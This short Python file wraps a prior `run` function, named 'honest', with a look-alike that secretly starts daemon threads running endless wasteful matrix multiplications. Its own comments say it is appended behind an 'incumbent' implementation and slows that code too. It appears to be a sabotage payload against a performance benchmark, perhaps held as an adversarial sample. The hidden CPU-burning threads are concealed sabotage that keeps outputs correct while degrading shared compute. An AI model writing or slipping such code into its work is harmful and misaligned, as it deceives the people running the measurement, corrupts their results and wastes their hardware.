# ruff: noqa: F821 - stands behind the source of the incumbent it imitates
# Leaves threads behind that burn processor time, the incumbent's included.
import threading

honest = run


def burn():
    a = torch.ones(64, 64)
    while True:
        a = a @ a * 0


def run(x, dense):
    if threading.active_count() < 3:
        for _ in range(3):
            threading.Thread(target=burn, daemon=True).start()
    return honest(x, dense)
